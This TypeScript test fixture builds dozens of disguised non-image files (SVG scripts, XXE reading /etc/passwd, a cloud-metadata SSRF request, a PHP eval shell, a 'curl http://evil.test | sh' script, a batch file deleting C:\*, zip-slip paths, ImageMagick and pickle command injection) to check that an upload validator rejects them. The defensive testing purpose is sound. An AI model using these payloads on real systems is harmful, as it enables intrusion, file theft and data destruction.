import { deflateSync, gzipSync } from 'node:zlib';
import { nestedZip, zipOf } from './bytes';
import { mark, refusedType, type HostileCase } from './cases';

const text = (content: string) => Buffer.from(content, 'latin1');
const hex = (content: string, more = mark) => Buffer.concat([Buffer.from(content.replaceAll(' ', ''), 'hex'), text(more)]);

/** Files of other kinds, by what they are. */
const kinds: Readonly<Record<string, Buffer>> = {
  'SVG with a script': text(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>${mark}</script></svg>`),
  'SVG that reads files': text(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`),
  'SVG that asks elsewhere': text('<svg xmlns="http://www.w3.org/2000/svg"><image href="http://169.254.169.254/latest/meta-data/"/></svg>'),
  'SVG, compressed': gzipSync(text('<svg xmlns="http://www.w3.org/2000/svg"/>')),
  'SVG behind a byte order mark': text('\xef\xbb\xbf<svg xmlns="http://www.w3.org/2000/svg"/>'),
  HTML: text(`<html><body onload="alert('${mark}')">`),
  'a PHP page': text(`<?php eval($_POST['${mark}']);`),
  'a GIF that is a script': text(`GIF89a/*${mark}*/=1;alert(1)//;`),
  'a GIF that moves': hex('474946383961 01000100 800000 000000 ffffff 21f90400000000002c00000000010001000002024401003b'),
  PDF: text(`%PDF-1.7\n/OpenAction<</JS(${mark})>>`),
  PostScript: text('%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file'),
  'an EXE': hex('4d5a90000300000004000000ffff0000'),
  'an ELF program': hex('7f454c4602010100 0000000000000000'),
  'a Mach-O program': hex('cffaedfe07000001'),
  'a Java class': hex('cafebabe00000034'),
  WebAssembly: hex('0061736d01000000'),
  'a shell script': text('#!/bin/sh\ncurl http://evil.test | sh\n'),
  'a Windows shortcut': hex('4c0000000114020000000000c000000000000046'),
  'a batch file': text('@echo off\r\ndel /s /q C:\\*\r\n'),
  'a ZIP': zipOf('a.php', text(mark)),
  'a ZIP within ZIPs': nestedZip(12),
  'a ZIP whose entry climbs': zipOf('../../../etc/cron.d/x', text(mark)),
  gzip: gzipSync(text(mark)),
  'a tar': Buffer.concat([text('../../x'), Buffer.alloc(250), text('ustar\0'), Buffer.alloc(249)]),
  RAR: hex('526172211a070100'),
  '7-Zip': hex('377abcaf271c0004'),
  'a Word document with macros': zipOf('word/vbaProject.bin', text(mark)),
  'an old Office document': hex('d0cf11e0a1b11ae1'),
  RTF: text('{\\rtf1{\\object\\objupdate}}'),
  TIFF: hex('49492a0008000000'),
  BigTIFF: hex('49492b0008000000'),
  BMP: hex('424d36000000000000003600000028000000'),
  'an icon': hex('00000100010010100000010020006804'),
  Photoshop: text('8BPS\0\x01\0\0\0\0\0\0\0\x03'),
  'JPEG 2000': hex('0000000c6a5020200d0a870a'),
  'JPEG XL': hex('0000000c4a584c200d0a870a'),
  HEIC: hex('00000018 66747970 68656963 00000000 6d696631 68656963'),
  'an AVIF sequence': hex('00000018 66747970 61766973 00000000 61766973 6d736631'),
  'a film': hex('00000018 66747970 69736f6d 00000200 69736f6d 6d703432'),
  WebM: hex('1a45dfa3'),
  'a sound': text('RIFF\x24\0\0\0WAVEfmt '),
  Flash: text('CWS\x0a'),
  'ImageMagick’s language': text('push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 "|id"\npop graphic-context'),
  'a page of settings of Apache': text('AddType application/x-httpd-php .png\n'),
  'a pickle of Python': text("cos\nsystem\n(S'id'\ntR."),
  'an object of Java': hex('aced0005'),
  'a database': text('SQLite format 3\0'),
  'a key': text(`-----BEGIN OPENSSH PRIVATE KEY-----\n${mark}\n`),
  'JSON': text(`{"__proto__":{"isAdmin":true},"x":"${mark}"}`),
  'a mail': text(`From: a\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>${mark}</script>`),
  'bare DEFLATE': deflateSync(text(mark)),
  'a zero byte': Buffer.alloc(1),
  'a thousand zero bytes': Buffer.alloc(1000),
  'random bytes': Buffer.from(Array.from({ length: 400 }, (_, at) => (at * 167 + 13) % 256)),
  'the first byte of a JPEG': Buffer.from([0xff]),
  'a PNG with one wrong byte in front': hex('88504e470d0a1a0a 0000000d49484452'),
  'a PNG that went through a text mode': hex('89504e470a1a0a 0000000d49484452'),
  'a PNG behind a blank': hex('2089504e470d0a1a0a'),
  'a WebP that says RIFX': text('RIFX\x24\0\0\0WEBPVP8 '),
};

/** Each kind as it might be passed off: under a picture's name and type, in turn. */
export function disguised(): HostileCase[] {
  const guises = [['a.png', 'image/png'], ['photo.jpg', 'image/jpeg'], ['x.webp', 'image/webp'], ['y.avif', 'image/avif']] as const; // prettier-ignore
  return Object.entries(kinds).map(([kind, file], at) => {
    const [filename, type] = guises[at % guises.length]!;
    return { name: `${kind}, called ${filename}`, file, filename, type, becomes: refusedType };
  });
}
